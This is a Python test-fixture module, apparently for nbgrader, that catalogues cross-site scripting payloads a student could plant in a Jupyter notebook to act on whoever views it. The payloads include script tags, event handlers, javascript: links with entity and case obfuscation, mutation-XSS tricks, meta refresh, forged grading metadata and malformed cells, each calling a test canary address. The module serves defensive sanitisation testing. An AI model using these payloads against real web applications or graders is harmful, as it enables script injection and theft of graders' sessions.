"""What a student can write to act on whoever looks at it: one list, for every place where it is shown.

Each asks for CANARY, an address of the test's own, when its script runs or its picture is fetched. `works` says how
the unsanitised one shows itself in nbgrader's pages: it asks for its address at once ("runs"), in a page of its own
("alone"), only in formgrader ("formgrader"), the page cannot be shown at all ("breaks"), or not at all (""), which
today's templates prevent, and tomorrow's may not.
"""

import base64
from dataclasses import dataclass
from typing import Any

Cell = dict[str, Any]
JS = "fetch('CANARY')"
PNG = base64.b64encode(
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
).decode()


@dataclass(frozen=True)
class Payload:
    name: str
    cell: Cell
    works: str = "runs"
    metadata: Cell | None = None  # of the notebook

    @property
    def path(self) -> str:
        return self.name.replace(" ", "-")

    def at(self, canary: str) -> "Payload":
        """With the address filled in, in quotes or in letters that need none."""
        address = f"{canary}/{self.path}"
        numbers = ",".join(str(ord(letter)) for letter in f"fetch('{address}')")

        def filled(value: Any) -> Any:
            if isinstance(value, str):
                return value.replace("CANARY", address).replace("UNQUOTED", f"eval(String.fromCharCode({numbers}))")
            if isinstance(value, dict):
                return {filled(key): filled(item) for key, item in value.items()}
            return [filled(item) for item in value] if isinstance(value, list) else value

        return Payload(self.name, filled(self.cell), self.works, filled(self.metadata))


def markdown(source: str, **more: Any) -> Cell:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(*outputs: Cell, **more: Any) -> Cell:
    listed = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "x = 1", "outputs": list(outputs)}
    return {**listed, **more}


def shown(kind: str, value: Any, **metadata: Any) -> Cell:
    return code({"output_type": "display_data", "data": {kind: value}, "metadata": metadata})


def stream(text: str) -> Cell:
    return code({"output_type": "stream", "name": "stdout", "text": text})


def error(*traceback: str) -> Cell:
    return code({"output_type": "error", "ename": "E", "evalue": "e", "traceback": list(traceback)})


# HTML acts where a markdown cell, a markdown output or an HTML output holds it.
HTML = {
    "script": f"<script>{JS}</script>",
    "image onerror": f'<img src="x" onerror="{JS}">',
    "image elsewhere": '<img src="CANARY">',
    "svg onload": f'<svg onload="{JS}"></svg>',
    "svg in capitals": f'<SVG OnLoad="{JS}"/>',
    "svg animation": f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"></animate></svg>',
    "svg style": f'<svg><style><img src="x" onerror="{JS}"></style></svg>',
    "details": f'<details open ontoggle="{JS}">x</details>',
    "focus": f'<input autofocus onfocus="{JS}">',
    "video": f'<video><source onerror="{JS}"></video>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    "iframe data": f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
    "object": '<object data="CANARY"></object>',
    "embed": '<embed src="CANARY">',
    "stylesheet": '<link rel="stylesheet" href="CANARY">',
    "style element": "<style>@import url(CANARY);</style>",
    "style attribute": '<div style="background:url(CANARY)">x</div>',
    "style escaped": r'<div style="backgr\6fund:\75rl(CANARY)">x</div>',
    "form": '<form action="CANARY"><input name="x"></form>',
    "mathml": f'<math><mtext><table><tr><td><img src="x" onerror="{JS}"></td></tr></table></mtext></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "comment": f"<!--><img src=x onerror={JS}>-->",
    "slash": f'<div><img/src="x"/onerror={JS}></div>',
    "link": f'<a href="javascript:{JS}">x</a>',
    "link entities": f'<a href="&#106;ava&Tab;script&colon;{JS}">x</a>',
    "picture set": '<img srcset="CANARY 1x" alt="x">',
    "table background": '<table background="CANARY"><tr><td>x</td></tr></table>',
}
ALONE = {
    "meta refresh": '<meta http-equiv="refresh" content="0;url=CANARY">',
    "base": '<base href="CANARY/"><img src="x">',
    "out of the page": f"</div></div></div></div></body><script>{JS}</script>",
}
# What markdown makes links and pictures of.
MARKDOWN = {
    "link": f"[x](javascript:{JS})",
    "link in capitals": f"[x](JaVaScRiPt:{JS})",
    "link entity": f"[x](&#106;avascript:{JS})",
    "link colon": f"[x](javascript&colon;{JS})",
    "link tab": f"[x](java&Tab;script:{JS})",
    "link line end": f"[x](java&#10;script:{JS})",
    "link control": f"[x](&#1;javascript:{JS})",
    "link angle": f"[x](<javascript:{JS}>)",
    "link titled": f'[x](javascript:{JS} "t")',
    "link reference": f"[x][r1]\n\n[r1]: javascript:{JS}",
    "link shortcut": f"[r2]\n\n[r2]: javascript:{JS}",
    "link nested": f"[a *b `c` **d**](javascript:{JS})",
    "link of a picture": f"[![x](data:image/png;base64,{PNG})](javascript:{JS})",
    "link in a table": f"|a|\n|-|\n|[x](javascript:{JS})|",
    "link in a list": f"1. > - [x](javascript:{JS})",
    "autolink": f"<javascript:{JS}>",
    "picture": "![x](CANARY)",
    "picture reference": "![x][r3]\n\n[r3]: CANARY",
    "diagram": f"```mermaid\n<img src=x onerror={JS}>\n```",
    "after code": f'`a` <img src=x onerror="{JS}"> `',
    "no fence": f'``` `\n<img src=x onerror="{JS}">\n```',
    "after a formula": f'$$a$$<img src=x onerror="{JS}">',
}

GRADED = {"grade": True, "solution": True, "locked": False, "points": 1, "schema_version": 3, "grade_id": "essay"}
FORGED = GRADED | {"grade_id": f'"><img src=x onerror="{JS}">'}
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"


def works(name: str) -> str:
    """nbconvert's own parsers happen to undo a few."""
    return "" if name in ("noscript", "link tab", "link line end") else "runs"


PAYLOADS = [
    *(Payload(f"markdown/{name}", markdown(source), works(name)) for name, source in (HTML | MARKDOWN).items()),
    *(Payload(f"markdown/{name}", markdown(source), "alone") for name, source in ALONE.items()),
    *(Payload(f"html/{name}", shown("text/html", source), works(name)) for name, source in HTML.items()),
    *(Payload(f"html/{name}", shown("text/html", source), "alone") for name, source in ALONE.items()),
    *(Payload(f"output/{name}", shown("text/markdown", MARKDOWN[name])) for name in ("link", "picture", "diagram")),
    Payload("output/isolated", shown("text/html", f"<script>{JS}</script>", **{"text/html": {"isolated": True}})),
    Payload("output/javascript", shown("application/javascript", JS), "formgrader"),
    Payload("output/width", shown("image/png", PNG, **{"image/png": {"width": "1 onload=UNQUOTED"}})),
    Payload("output/png", shown("image/png", f'"><img src=x onerror="{JS}">'), ""),
    Payload("output/svg", shown("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'), ""),
    Payload("output/latex", shown("text/latex", rf"$\href{{javascript:{JS}}}{{x}}$<script>{JS}</script>"), ""),
    Payload("output/vega", shown("application/vnd.vega.v5+json", {"data": [{"name": "x", "url": "CANARY"}]}), ""),
    Payload("output/widget", shown(WIDGET, {"model_id": "m"}), "", {"widgets": {STATE: {"state": {"m": {}}}}}),
    Payload("output/widget without model", shown(WIDGET, {}), "breaks"),
    Payload(
        "output/count",
        code(*shown("text/plain", "x")["outputs"], execution_count=f'<img src=x onerror="{JS}">'),
        "breaks",
    ),
    Payload("output/stream", stream(f"<script>{JS}</script>"), ""),
    Payload("output/error", error(f"\x1b[31m<img src=x onerror={JS}>\x1b[0m"), ""),
    Payload("output/colour", error("\x1b[38mx"), "breaks"),
    Payload("cell/raw", {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": HTML["script"]}, ""),
    Payload("cell/other", {"cell_type": "x", "metadata": {}, "source": "", "type": HTML["image onerror"]}, "breaks"),
    Payload("cell/grade id", markdown("x", metadata={"nbgrader": FORGED}), "formgrader"),
    Payload("cell/tags", code(metadata={"tags": 5}), "breaks"),
    Payload("cell/half a letter", code(source="x = '\ud83d'"), "breaks"),
    Payload("cell/half a letter in a heading", markdown("# \ud83d"), "breaks"),
    Payload("cell/no such attachment", markdown("![x](attachment:a.png)"), "breaks"),
    Payload(
        "cell/svg attachment",
        markdown("![x](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": f'"><img src=x onerror="{JS}">'}}),
        "",
    ),
    Payload("notebook/language", code(), "breaks", {"language_info": {"name": 5}}),
    Payload("notebook/title", code(), "", {"title": f"</title><script>{JS}</script>"}),
    # Last, since it swallows what follows.
    Payload("html/unclosed", shown("text/html", f'<img src=x onerror="{JS}" title="'), "formgrader"),
]


def book(*payloads: Payload) -> dict[str, Any]:
    """A notebook of all these."""
    metadata: dict[str, Any] = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    for payload in payloads:
        metadata |= payload.metadata or {}
    cells = [{"id": f"cell-{number}", **payload.cell} for number, payload in enumerate(payloads)]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
